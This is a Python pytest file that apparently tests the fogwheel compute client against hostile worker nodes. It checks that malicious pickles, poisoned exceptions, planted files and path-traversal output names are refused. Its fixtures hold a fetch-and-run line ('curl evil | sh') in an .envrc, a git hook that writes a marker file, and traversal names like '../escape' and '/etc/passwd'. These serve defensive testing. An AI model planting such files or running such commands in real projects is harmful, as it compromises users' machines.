"""Results are data: no byte a node sends becomes code, or a file the customer did not ask for.

A hostile node (tests/adversarial/hostile.py) answers real jobs of a real coordinator with
pickles that run a shell command or `exec` when loaded, exceptions that carry such a pickle,
and command outputs named `.git/hooks/post-checkout`, `.envrc` or after a file that is there
already. Each test asserts that the marker file a payload would create never appears and that
nothing unrequested is written, alone (replicas=1: the hostile node decides), beside an honest
node (replicas=2), and with two hostile nodes that agree.
"""

from __future__ import annotations

import collections
import datetime
import decimal
import json
import os
import pickle
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from fogwheel import Client
from fogwheel.client import Limits
from fogwheel.errors import OutputRefused, RefusedValue, RemoteTraceback, TaskFailed
from fogwheel.localfog import LocalFog
from fogwheel.protocol import ErrorInfo, TaskReport, Value
from fogwheel.store.verify import result_digest
from tests.adversarial.hostile import (
    HostileNode,
    evil_exception,
    evil_pickle,
    exec_pickle,
    value_of,
)

WAIT = 120.0  # generous: six engineers share two cores
CLI = [sys.executable, "-m", "fogwheel"]


class Reading:
    """A customer's own result type."""

    def __init__(self, sensor: str, value: float) -> None:
        self.sensor, self.value = sensor, value

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Reading) and vars(self) == vars(other)


def double(x: int) -> int:
    return 2 * x


def raise_it(message: str) -> None:
    raise ValueError(message)


def plain_things() -> dict[str, Any]:
    return {
        "array": np.arange(12.0).reshape(3, 4),
        "records": np.zeros(2, dtype=[("a", "f8"), ("b", "i4")]),
        "scalar": np.float32(1.5),
        "set": {1, 2, 3},
        "money": decimal.Decimal("10.05"),
        "when": datetime.datetime(2024, 5, 6, 7, 8, 9, tzinfo=datetime.UTC),
        "counts": collections.Counter("hello"),
        "nested": [{"k": (1, 2.5, "s", b"b", None)}],
    }


def a_reading() -> Reading:
    return Reading("t1", 21.5)


@pytest.fixture(scope="module")
def bare_fog(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalFog]:
    """A coordinator with no honest node: only the attacker's nodes take work."""
    with LocalFog(0, workdir=tmp_path_factory.mktemp("bare")) as fog:
        yield fog


@pytest.fixture
def hostile(bare_fog: LocalFog) -> Iterator[HostileNode]:
    with HostileNode(bare_fog.url, bare_fog.join_token) as node:
        assert node.join().status_code == 201
        yield node


def _lease_for(node: HostileNode, job_id: int, timeout: float = WAIT) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for lease in node.lease(1, timeout=5.0, at_least=1):
            if lease["job_id"] == job_id:
                return lease
            node.sync(release=[lease["task_id"]])
    raise AssertionError(f"the hostile node got no lease of job {job_id}")


def _accepted(r: Any) -> None:
    assert r.status_code == 200, r.text
    assert not r.json().get("rejected"), r.text


# -- values -------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [evil_pickle, exec_pickle], ids=["os.system", "exec"])
def test_a_value_that_runs_code_when_unpickled_never_runs_on_the_client(
    bare_fog: LocalFog, hostile: HostileNode, tmp_path: Path, payload: Any
) -> None:
    marker = tmp_path / "pwned"
    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
        fut = client.submit(double, 21)
        lease = _lease_for(hostile, fut.job_id)
        _accepted(hostile.report(hostile.result(lease, value=payload(marker))))
        with pytest.raises(RefusedValue) as info:
            fut.result(timeout=WAIT)
    assert not marker.exists()
    assert "trusted_types" in str(info.value) and "unsafe_trust_nodes" in str(info.value)


def test_two_nodes_of_one_token_agreeing_on_a_malicious_pickle_run_nothing(
    bare_fog: LocalFog, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    with (
        HostileNode(bare_fog.url, bare_fog.join_token, name="sybil-a") as a,
        HostileNode(bare_fog.url, bare_fog.join_token, name="sybil-b") as b,
        Client(bare_fog.url, bare_fog.api_key, replicas=2) as client,
    ):
        assert a.join().status_code == 201 and b.join().status_code == 201
        fut = client.submit(double, 21)
        leases = [_lease_for(a, fut.job_id), _lease_for(b, fut.job_id)]
        for node, lease in zip((a, b), leases, strict=True):
            _accepted(node.report(node.result(lease, value=evil_pickle(marker))))
        # Agreed (each of the operator's devices votes alone), the value is still refused;
        # were they one owner's single vote, the task would fail for want of another.
        with pytest.raises((RefusedValue, TaskFailed)):
            fut.result(timeout=WAIT)
    assert not marker.exists()


def test_a_value_over_the_customers_size_limit_is_refused(
    bare_fog: LocalFog, hostile: HostileNode
) -> None:
    limits = Limits(max_bytes=1000)
    with Client(bare_fog.url, bare_fog.api_key, replicas=1, result_limits=limits) as client:
        fut = client.submit(double, 21)
        lease = _lease_for(hostile, fut.job_id)
        _accepted(hostile.report(hostile.result(lease, value=pickle.dumps(b"x" * 100_000))))
        with pytest.raises(RefusedValue, match="over the decoder's limit"):
            fut.result(timeout=WAIT)


@pytest.mark.filterwarnings("ignore:fogwheel. unsafe_trust_nodes")
def test_the_payloads_are_live_so_these_tests_can_fail(
    bare_fog: LocalFog, hostile: HostileNode, tmp_path: Path
) -> None:
    """With the loud opt-in (full pickle) the same payload does run: the marker appears."""
    marker = tmp_path / "ran"
    with Client(bare_fog.url, bare_fog.api_key, replicas=1, unsafe_trust_nodes=True) as client:
        fut = client.submit(double, 21)
        lease = _lease_for(hostile, fut.job_id)
        _accepted(hostile.report(hostile.result(lease, value=evil_pickle(marker))))
        fut.result(timeout=WAIT)
    assert marker.exists()


# -- exceptions --------------------------------------------------------------------------------


def test_an_exception_carrying_a_malicious_pickle_is_rebuilt_not_unpickled(
    bare_fog: LocalFog, hostile: HostileNode, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
        fut = client.submit(raise_it, "nothing to see here")
        lease = _lease_for(hostile, fut.job_id)
        report = hostile.result(lease, ok=False, error=evil_exception(marker))
        _accepted(hostile.report(report))
        with pytest.raises(ValueError, match="nothing to see here") as info:
            fut.result(timeout=WAIT)
    assert not marker.exists()
    assert isinstance(info.value.__cause__, RemoteTraceback)


def test_a_node_naming_an_untrusted_exception_type_gets_a_remote_error(
    bare_fog: LocalFog, hostile: HostileNode
) -> None:
    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
        fut = client.submit(raise_it, "x")
        lease = _lease_for(hostile, fut.job_id)
        error = {"kind": "exception", "type": "os:system", "message": "id", "args": ["id"]}
        _accepted(hostile.report(hostile.result(lease, ok=False, error=error)))
        with pytest.raises(TaskFailed, match="os:system") as info:
            fut.result(timeout=WAIT)
    assert getattr(info.value, "type_name", None) == "os:system"


def test_an_honest_nodes_agreement_does_not_carry_a_hostile_nodes_exception(
    tmp_path: Path,
) -> None:
    """replicas=2, one honest node and one hostile: the hostile node claims the same error
    type and message, with a malicious `exc` and its own traceback. Those fields are inside
    the digest, so the replicas disagree (and the task fails) or the customer gets the honest
    error; never the pickle."""
    marker = tmp_path / "pwned"
    with (
        LocalFog(1, workdir=tmp_path / "fog") as fog,
        HostileNode(fog.url, fog.join_token) as node,
        Client(fog.url, fog.api_key, replicas=2) as client,
    ):
        assert node.join().status_code == 201
        fut = client.submit(raise_it, "nothing to see here")
        lease = _lease_for(node, fut.job_id)
        _accepted(node.report(node.result(lease, ok=False, error=evil_exception(marker))))
        with pytest.raises((ValueError, TaskFailed)) as info:
            fut.result(timeout=WAIT)
    assert not marker.exists()
    if isinstance(info.value, ValueError):  # the honest node's error, with its traceback
        cause = info.value.__cause__
        assert isinstance(cause, RemoteTraceback) and "in raise_it" in cause.tb
    else:
        assert "disagree" in str(info.value)


def raise_with_a_path_and_an_address() -> None:
    open(os.path.join(os.getcwd(), "missing"), "rb")  # noqa: SIM115 - it raises


def test_honest_replicas_of_a_raising_task_still_agree(tmp_path: Path) -> None:
    """The message and traceback carry the scratch path, which differs between nodes: the
    worker writes it one way, so two honest nodes agree on every byte and the error is
    raised as its own type."""
    with (
        LocalFog(2, workdir=tmp_path / "fog") as fog,
        Client(fog.url, fog.api_key, replicas=2) as client,
    ):
        fut = client.submit(raise_with_a_path_and_an_address)
        with pytest.raises(FileNotFoundError, match="<scratch>/missing") as info:
            fut.result(timeout=WAIT)
        history = client.tasks(fut.job_id)[0]["history"]
    assert sorted(h["outcome"] for h in history) == ["agreed", "agreed"]
    assert "in raise_with_a_path_and_an_address" in info.value.__cause__.tb


def test_every_field_the_customer_receives_is_inside_the_digest() -> None:
    def report(**err: Any) -> TaskReport:
        base = {"kind": "exception", "type": "ValueError", "message": "m", "traceback": "t"}
        return TaskReport(task_id=1, attempt=1, ok=False, error=ErrorInfo(**{**base, **err}))

    exc = Value(**value_of(b"pickle"))
    honest = result_digest(report())
    for change in (
        {"message": "m2"},
        {"traceback": "t2"},
        {"args": ["x"]},
        {"exc": exc},
        {"type": "KeyError"},
    ):
        assert result_digest(report(**change)) != honest, change
    v1, v2 = Value(**value_of(b"1")), Value(**value_of(b"2"))
    ok = TaskReport(task_id=1, attempt=1, ok=True, value=v1, outputs={"a": v1})
    assert result_digest(ok) != result_digest(ok.model_copy(update={"outputs": {"b": v1}}))
    assert result_digest(ok) != result_digest(ok.model_copy(update={"outputs": {"a": v2}}))
    failed = TaskReport(task_id=1, attempt=1, ok=False, value=v1, error=ErrorInfo(kind="exit"))
    assert result_digest(failed) != result_digest(failed.model_copy(update={"value": v2}))
    # A limit's measurements differ between honest nodes; its words do not.
    held = [
        report(kind="limit", message=f"memory limit of 64 MB exceeded; held {n} MB") for n in (3, 9)
    ]
    assert result_digest(held[0]) == result_digest(held[1])


# -- values that are data round-trip -------------------------------------------------------------


@pytest.fixture(scope="module")
def honest_fog(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalFog]:
    with LocalFog(1, workdir=tmp_path_factory.mktemp("honest")) as fog:
        yield fog


def test_plain_data_and_numpy_round_trip_through_a_real_node(honest_fog: LocalFog) -> None:
    with Client(honest_fog.url, honest_fog.api_key, replicas=1) as client:
        got = client.submit(plain_things).result(timeout=WAIT)
    want = plain_things()
    for key in ("set", "money", "when", "counts", "nested", "scalar"):
        assert got[key] == want[key] and type(got[key]) is type(want[key]), key
    assert (
        np.array_equal(got["array"], want["array"])
        and got["records"].dtype == want["records"].dtype
    )


def test_a_customers_class_is_refused_unless_trusted_and_the_error_says_how(
    honest_fog: LocalFog,
) -> None:
    with Client(honest_fog.url, honest_fog.api_key, replicas=1) as client:
        with pytest.raises(RefusedValue) as info:
            client.submit(a_reading).result(timeout=WAIT)
        assert f"{__name__}:Reading" in str(info.value) and "trusted_types" in str(info.value)
        futures = client.submit_many(a_reading, [((), {})], trusted_types=[Reading])
        assert futures[0].result(timeout=WAIT) == Reading("t1", 21.5)
    with Client(
        honest_fog.url, honest_fog.api_key, replicas=1, trusted_types=[f"{__name__}:Reading"]
    ) as client:
        assert client.submit(a_reading).result(timeout=WAIT) == Reading("t1", 21.5)


def test_full_pickle_only_with_the_loud_opt_in(
    honest_fog: LocalFog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("fogwheel.client._warned_unsafe", False)  # it warns once a process
    with (
        pytest.warns(RuntimeWarning, match="any node can run code"),
        Client(honest_fog.url, honest_fog.api_key, replicas=1, unsafe_trust_nodes=True) as client,
    ):
        assert client.submit(a_reading).result(timeout=WAIT) == Reading("t1", 21.5)
        assert client.submit(lambda: lambda: 7).result(timeout=WAIT)() == 7


# -- output files -------------------------------------------------------------------------------

PLANTED = {
    ".git/hooks/post-checkout": b"#!/bin/sh\ntouch /tmp/pwned\n",
    ".envrc": b"curl evil | sh\n",
    "existing.txt": b"clobbered\n",
    "out.txt": b"the answer\n",
}
COMMAND_OK = json.dumps({"returncode": 0, "stdout": "ok\n", "stderr": ""}).encode()


def _answer_command(node: HostileNode, job_id: int) -> None:
    lease = _lease_for(node, job_id)
    escape = node.result(lease, value=COMMAND_OK, outputs={"../escape": b"x"})
    r = node.sync(results=[escape])
    assert r.status_code == 422 or r.json().get("rejected"), r.text  # refused at the door
    _accepted(node.report(node.result(lease, value=COMMAND_OK, outputs=PLANTED)))


def _user_dir(tmp_path: Path) -> Path:
    home = tmp_path / "project"
    (home / ".git" / "hooks").mkdir(parents=True)
    (home / "existing.txt").write_bytes(b"mine\n")
    return home


def _only_requested_written(home: Path) -> None:
    assert not (home / ".git" / "hooks" / "post-checkout").exists()
    assert not (home / ".envrc").exists()
    assert not (home.parent / "escape").exists()
    assert (home / "existing.txt").read_bytes() == b"mine\n"
    assert (home / "out.txt").read_bytes() == b"the answer\n"


def test_a_command_result_keeps_only_requested_outputs_and_save_stays_inside(
    bare_fog: LocalFog, hostile: HostileNode, tmp_path: Path
) -> None:
    home = _user_dir(tmp_path)
    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
        fut = client.run(["sh", "-c", "echo the answer > out.txt"], outputs=["out.txt"])
        _answer_command(hostile, fut.job_id)
        res = fut.result(timeout=WAIT)
    assert set(res.outputs) == {"out.txt"}
    assert len(res.warnings) == 3 and any(".envrc" in w for w in res.warnings)
    res.save(home)
    _only_requested_written(home)
    with pytest.raises(OutputRefused, match="overwrite=True"):
        res.save(home)  # a file is there now: not replaced unless asked
    assert (home / "out.txt").read_bytes() == b"the answer\n"


def write_result() -> int:
    with open("result.bin", "wb") as f:
        f.write(b"data")
    return 1


def test_a_python_tasks_files_are_only_the_requested_ones(
    bare_fog: LocalFog, hostile: HostileNode
) -> None:
    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
        fut = client.submit_many(write_result, [((), {})], outputs=["result.bin"])[0]
        lease = _lease_for(hostile, fut.job_id)
        planted = {"result.bin": b"data", ".envrc": b"curl evil | sh\n"}
        _accepted(hostile.report(hostile.result(lease, value=pickle.dumps(1), outputs=planted)))
        out = fut.result(timeout=WAIT)
        assert set(out.files) == {"result.bin"} and client.fetch(out.files["result.bin"]) == b"data"
        assert any(".envrc" in w for w in out.warnings)

        fut = client.run(["true"], outputs=["out.txt"])
        lease = _lease_for(hostile, fut.job_id)
        _accepted(hostile.report(hostile.result(lease, value=COMMAND_OK, outputs={".envrc": b"x"})))
        with pytest.raises(TaskFailed, match=r"lacks the output files it requested: out\.txt"):
            fut.result(timeout=WAIT)


def test_save_never_follows_a_planted_link_or_leaves_its_directory(tmp_path: Path) -> None:
    from fogwheel.client import CommandResult

    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    home = tmp_path / "home"
    home.mkdir()
    (home / "out.txt").symlink_to(victim)
    (home / "sub").symlink_to(tmp_path)
    res = CommandResult(0, "", "", {"out.txt": b"evil"})
    with pytest.raises(OutputRefused):
        res.save(home)
    res.save(home, overwrite=True)  # replaces the link itself, never writes through it
    assert victim.read_bytes() == b"precious" and (home / "out.txt").read_bytes() == b"evil"
    assert not (home / "out.txt").is_symlink()
    for name in ("sub/x", "/etc/passwd", "../x", "a/../../x", "./x", ""):
        with pytest.raises(OutputRefused):
            CommandResult(0, "", "", {name: b"evil"}).save(home, overwrite=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "victim"]


def test_fogwheel_run_writes_exactly_the_names_given_with_o(
    bare_fog: LocalFog, hostile: HostileNode, tmp_path: Path
) -> None:
    home = _user_dir(tmp_path)
    (home / "out.txt").write_bytes(b"an older answer\n")  # named with -o: replaced
    seen = _job_ids(bare_fog)
    cli = subprocess.Popen(
        [*CLI, "run", "-o", "out.txt", "--out-dir", str(home), "--replicas", "1", "--", "true"],
        env={
            **os.environ,
            "FOGWHEEL_COORDINATOR": bare_fog.url,
            "FOGWHEEL_API_KEY": bare_fog.api_key,
        },
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        job_id = _new_job(bare_fog, seen)
        _answer_command(hostile, job_id)
        _, err = cli.communicate(timeout=WAIT)
    finally:
        if cli.poll() is None:
            cli.kill()
    assert cli.returncode == 0, err.decode()
    _only_requested_written(home)
    assert b".envrc" in err and b"dropped" in err


def _job_ids(fog: LocalFog) -> set[int]:
    import httpx

    r = httpx.get(f"{fog.url}/v1/jobs", headers=fog.headers, params={"limit": 1000}, timeout=30)
    return {j["id"] for j in r.json()["jobs"]}


def _new_job(fog: LocalFog, seen: set[int], timeout: float = WAIT) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        new = _job_ids(fog) - seen
        if new:
            return max(new)
        time.sleep(0.1)
    raise AssertionError("the CLI submitted no job")
